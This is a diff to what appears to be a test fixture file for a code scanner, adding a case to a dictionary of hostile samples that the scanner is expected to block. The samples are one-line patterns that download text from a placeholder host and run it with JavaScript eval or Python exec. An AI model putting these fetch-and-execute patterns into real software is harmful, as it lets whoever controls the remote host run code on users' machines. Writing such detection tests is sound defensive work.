@@ -20,6 +20,14 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "block",
             ("app.js", 1),
         ),
+        "an element of an element is known late": Sample(
+            {
+                "app.js": "const asked = require('axios').get('https://a.invalid');\n"
+                "asked.then((reply) => [[reply.data]].map((row) => eval(...row))[0]);\n"
+            },
+            "block",
+            ("app.js", 2),
+        ),
         "a body goes to exec": py("import requests\nexec(requests.get('https://a.invalid').text)\n"),
         "by an alias and a helper": py(
             "from urllib.request import urlopen as u\ndef take(x):\n    return u(x).read()\n"
